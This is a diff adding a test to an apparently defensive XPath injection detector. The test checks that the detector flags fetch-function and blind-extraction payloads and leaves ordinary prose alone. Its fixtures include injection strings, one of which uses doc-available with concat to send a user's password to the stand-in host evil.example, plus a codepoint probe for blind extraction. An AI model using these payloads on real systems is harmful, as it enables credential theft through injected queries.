@@ -46,6 +46,12 @@ describe("xpath analyzer", () => {
     expect(maxStrength(xpathAnalyzer, leaf("items[1] | total"))).toBe(0);
   });
 
+  test("XPath 2.0's fetching functions after a breakout, and its string functions over paths", () => {
+    for (const text of ["x' and doc-available(concat('http://evil.example/',//user[1]/pass)) and '1'='1", "x' or doc('http://e.example/x') or '"]) expect([text, rules(xpathAnalyzer, leaf(text)).includes("xpath.fetch-function"), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, true, 0.85]);
+    expect(maxStrength(xpathAnalyzer, leaf("' or string-to-codepoints(//user[1]/pass)[1]=97 or '"))).toBe(0.9);
+    for (const text of ["See the doc (page 3)", "read the doc(s) first"]) expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
+  });
+
   test("a quoted string closed, then XPath comments where blanks would be, then `or` or `and`; smileys in prose are not", () => {
     for (const text of ["'(: c :)or(: c :)'1'='1", "x'(:x:)and(:x:)'a'='a"]) expect([text, rules(xpathAnalyzer, leaf(text)), maxStrength(xpathAnalyzer, leaf(text))]).toEqual([text, ["xpath.comment-breakout"], 0.85]);
     for (const text of ["great (: see you :) or not", "it's fine (: or :) ok"]) expect([text, xpathAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
